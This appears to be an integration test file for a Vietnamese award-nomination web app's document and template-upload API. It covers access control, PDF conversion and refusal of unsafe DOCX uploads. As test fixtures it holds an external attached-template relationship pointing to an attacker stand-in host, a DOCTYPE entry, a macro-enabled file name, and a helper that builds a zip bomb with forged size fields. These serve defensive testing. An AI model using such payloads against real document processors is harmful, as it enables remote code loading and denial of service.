import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'

import PizZip from 'pizzip'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { aDocx, linesOf } from '../unit/documents/templates/aDocx.ts'
import { aNomination } from './aNomination.ts'
import { client, signInAs, type Client } from './client.ts'
import { databasesUnderTest } from './databasesUnderTest.ts'
import { officeCorpus } from './fileCorpus.ts'
import { demoPassword, seedServer } from './seedServer.ts'
import { signIn } from './signIn.ts'
import { startServer, type RunningServer } from './startServer.ts'

type Made = { id: string; name: string; rev: number; template: string; title: { vi: string } }
type Errors = { code: string; message: string; path?: string }[]

describe.each(databasesUnderTest())('documents over HTTP on $name', ({ databaseUri }) => {
  const dataDir = mkdtempSync(path.join(tmpdir(), 'thi-dua-documents-'))
  const env = { DATABASE_URI: databaseUri('documents') }
  let server: RunningServer
  let standing: Client
  let unitHead: Client
  let officer: Client
  let nomination = ''
  let template = ''

  const tokens = new Map<string, Promise<string>>()
  const tokenOf = (name: string) => {
    const email = `${name}@demo.example.vn`
    const known = tokens.get(name) ?? signIn({ email, password: demoPassword, url: server.url })
    tokens.set(name, known)
    return known
  }
  const upload = async (
    bytes: Uint8Array,
    { as = 'standing-officer', id = template, name = 'mau.docx' } = {},
  ) => {
    const body = new FormData()
    body.append('file', new File([new Uint8Array(bytes)], name), name)
    const response = await fetch(`${server.url}/api/document-templates/${id}/files`, {
      body,
      headers: as ? { authorization: `JWT ${await tokenOf(as)}` } : {},
      method: 'POST',
    })
    const reply = (await response.json()) as { errors?: Errors; files?: { id: string; number: number }[] }
    return { errors: reply.errors ?? [], files: reply.files ?? [], status: response.status }
  }
  const fetchAs = async (name: string, address: string) =>
    fetch(`${server.url}${address}`, { headers: { authorization: `JWT ${await tokenOf(name)}` } })
  const documentsFor = async (reader: Client) => {
    const { body } = await reader.get(`/api/nominations/${nomination}/documents`)
    return body as unknown as { canConvert: boolean; documents: Made[] }
  }

  beforeAll(async () => {
    await seedServer(dataDir, env)
    server = await startServer({ dataDir, env })
    standing = await signInAs(server.url, 'standing-officer')
    officer = await signInAs(server.url, 'unit-officer.kinhte')
    unitHead = await signInAs(server.url, 'unit-head.kinhte')
    const made = await standing.post('/api/document-templates', { key: 'thu-nghiem', title: 'Thử nghiệm' })
    template = (made.body['doc'] as { id: string }).id
    nomination = await aNomination(officer)
  }, 300_000)
  afterAll(() => server.stop())

  it('makes the submission of a nomination when it is submitted, for those who may read it', async () => {
    const { body } = await unitHead.get(`/api/nominations/${nomination}`)
    const done = await unitHead.post(`/api/nominations/${nomination}/actions/submit`, { rev: body['rev'] })
    expect(done.status).toBe(200)
    await expect
      .poll(async () => (await documentsFor(unitHead)).documents.length, { timeout: 20_000 })
      .toBe(1)
    const [made] = (await documentsFor(unitHead)).documents
    expect(made).toMatchObject({
      template: 'to-trinh-de-nghi-khen-thuong',
      title: { vi: 'Tờ trình đề nghị khen thưởng' },
    })

    const address = `/api/nominations/${nomination}/documents/${made?.id ?? ''}`
    const word = await fetchAs('unit-head.kinhte', address)
    expect(word.status).toBe(200)
    expect(word.headers.get('content-type')).toMatch(/wordprocessingml/)
    expect(word.headers.get('content-disposition')).toMatch(
      /^attachment; filename="to-trinh-de-nghi-khen-thuong/,
    )
    const lines = linesOf(new Uint8Array(await word.arrayBuffer()))
    expect(lines).toContain('TỜ TRÌNH')
    expect(lines.join('\n')).toContain('Tham mưu, tổng hợp lĩnh vực đầu tư công.')

    // The accountant may not read the dossier; a council member may, but is none of the template's readers.
    expect((await fetchAs('accountant', address)).status).toBe(403)
    expect((await fetchAs('council-member', address)).status).toBe(404)
    expect((await documentsFor(await signInAs(server.url, 'council-member'))).documents).toEqual([])
    expect((await fetch(`${server.url}${address}`)).status).toBe(401)
    expect((await fetchAs('unit-head.kinhte', `${address.slice(0, -4)}0000`)).status).toBe(404)
  })

  it('gives it as PDF where LibreOffice is, and else says what to do', async () => {
    const { canConvert, documents } = await documentsFor(unitHead)
    const pdf = await fetchAs(
      'unit-head.kinhte',
      `/api/nominations/${nomination}/documents/${documents[0]?.id ?? ''}/pdf`,
    )
    expect(pdf.status).toBe(canConvert ? 200 : 503)
    const bytes = Buffer.from(await pdf.arrayBuffer())
    const expected = canConvert ? /^%PDF-/ : /PDF_NOT_INSTALLED/
    expect(bytes.toString('latin1')).toMatch(expected)
  })

  it('takes the next version of a template, and gives every version back', async () => {
    const first = await upload(aDocx(['{dossier.title}']))
    expect(first).toMatchObject({ files: [{ number: 1 }], status: 201 })
    expect(await upload(aDocx(['{dossier.title}']))).toMatchObject({ files: [{ number: 1 }], status: 201 })
    expect(await upload(aDocx(['{dossier.holder}']))).toMatchObject({ files: [{ number: 2 }], status: 201 })
    const { body } = await officer.get(`/api/document-templates/${template}/files`)
    expect((body['files'] as { number: number }[]).map(({ number }) => number)).toEqual([2, 1])
    const old = await fetchAs(
      'employee',
      `/api/document-templates/${template}/files/${first.files[0]?.id ?? ''}`,
    )
    expect(linesOf(new Uint8Array(await old.arrayBuffer()))).toEqual(['{dossier.title}'])
  })

  it('refuses with the place and the reason, and keeps the version in use', async () => {
    const refused = await upload(aDocx(['Số: {dossier.cod}', '{#form}{label}', '{today | ngay}']))
    expect(refused.status).toBe(422)
    const all = await upload(aDocx(['Số: {dossier.cod}', '{today | ngay}']))
    expect(all.errors.map(({ message }) => message)).toEqual([
      expect.stringMatching(/^Thân văn bản, đoạn 1 .*“cod” không có/),
      expect.stringMatching(/^Thân văn bản, đoạn 2 .*không có định dạng “ngay”/),
    ])
    const { body } = await standing.get(`/api/document-templates/${template}`)
    expect(body['latestNumber']).toBe(2)
  })

  const relation =
    '<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
  it.each([
    ...officeCorpus()
      .filter(({ name, status }) => status === 1 && name.endsWith('.docx'))
      .map(({ bytes, why }) => [why, 'a.docx', bytes] as const),
    [
      'a template from elsewhere',
      'a.docx',
      aDocx(['x'], { 'word/_rels/settings.xml.rels': relation }),
    ] as const,
    ['a DOCTYPE', 'a.docx', aDocx(['x'], { 'word/extra.xml': '<!DOCTYPE a><a/>' })] as const,
    ['an old Word name', 'a.doc', aDocx(['x'])] as const,
    ['a name with macros', 'a.docm', aDocx(['x'])] as const,
    ['no file', 'a.docx', new Uint8Array()] as const,
    ['sizes that lie', 'a.docx', lyingZip()] as const,
  ])('refuses %s', async (_why, name, bytes) => {
    const { errors, status } = await upload(bytes, { name })
    expect(status).toBe(422)
    expect(errors[0]?.message).toMatch(/\S{3}/)
  })

  it('is for those who keep the templates, and for templates that are there', async () => {
    const sound = aDocx(['x'])
    expect((await upload(sound, { as: 'unit-officer.kinhte' })).status).toBe(403)
    expect((await upload(sound, { as: '' })).status).toBe(401)
    expect((await upload(sound, { id: '0123456789abcdef01234567' })).status).toBe(404)
    const large = new Uint8Array(6 * 1024 * 1024)
    expect((await upload(large)).status).toBe(413)
    const { status } = await standing.post(`/api/document-templates/${template}/files`, { a: 1 })
    expect(status).toBe(415)
    // Nobody writes what only services write.
    const forged = await standing.patch(`/api/document-templates/${template}`, {
      latestFile: 'x',
      latestNumber: 9,
    })
    expect(forged.status).toBe(403)
    expect((await client(server.url).get('/api/document-templates')).status).toBe(403)
  })
})

/** A part that unpacks to 100 MB of zeros, while the directory says that it is small. */
function lyingZip(): Buffer {
  const zip = new PizZip(aDocx(['x']))
  zip.file('word/media/a.xml', new Uint8Array(100_000_000))
  const bytes = Buffer.from(zip.generate({ compression: 'DEFLATE', type: 'uint8array' }))
  const name = Buffer.from('word/media/a.xml')
  bytes.writeUInt32LE(1000, bytes.indexOf(name) - 30 + 22)
  bytes.writeUInt32LE(1000, bytes.lastIndexOf(name) - 46 + 24)
  return bytes
}
